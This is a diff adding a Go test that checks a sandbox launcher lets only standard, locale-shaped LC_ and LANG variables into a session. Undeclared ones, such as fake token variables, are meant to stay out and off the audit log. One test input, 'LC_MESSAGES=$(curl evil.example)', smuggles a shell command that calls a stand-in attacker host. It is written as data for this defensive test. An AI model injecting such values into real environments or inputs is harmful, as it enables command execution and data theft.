@@ -74,3 +74,23 @@ func TestRunDeclaredSessionTokensAndStartupHooksStayOutside(t *testing.T) {
 		}
 	}
 }
+
+// TestRunUndeclaredLCVariablesDoNotCarryValuesIn: every launcher variable
+// whose name began with LC_ crossed, declared or not, and sshd's stock
+// "AcceptEnv LANG LC_*" makes LC_ the usual way to carry a value into a
+// session. Only the standard locale categories cross, and only with a
+// locale-shaped value.
+func TestRunUndeclaredLCVariablesDoNotCarryValuesIn(t *testing.T) {
+	e := newSandboxEnv(t)
+	out, errs, code := e.run(`env | grep -E '^(LC_|LANG=)' | sort`,
+		"LC_API_TOKEN=s3cr3t-not-declared", "LC_TERMINAL_SECRET=other", "LC_ALL=C.UTF-8", "LC_TIME=en_GB.UTF-8",
+		"LC_MESSAGES=$(curl evil.example)", "LC_CTYPE=C.UTF-8 secret words", "LANG=de_DE.UTF-8@euro", "LC_NUMERIC=POSIX",
+		"LC_IDENTIFICATION="+strings.Repeat("a", 65))
+	want := "LANG=de_DE.UTF-8@euro\nLC_ALL=C.UTF-8\nLC_NUMERIC=POSIX\nLC_TIME=en_GB.UTF-8\n"
+	if code != 0 || out != want {
+		t.Fatalf("exit %d\nstdout %q\nwant   %q\nstderr %s", code, out, want, errs)
+	}
+	if log := e.auditLog(); strings.Contains(log, "LC_API_TOKEN") || strings.Contains(log, "LC_MESSAGES") {
+		t.Fatalf("the audit log says an undeclared LC_ variable crossed:\n%s", log)
+	}
+}
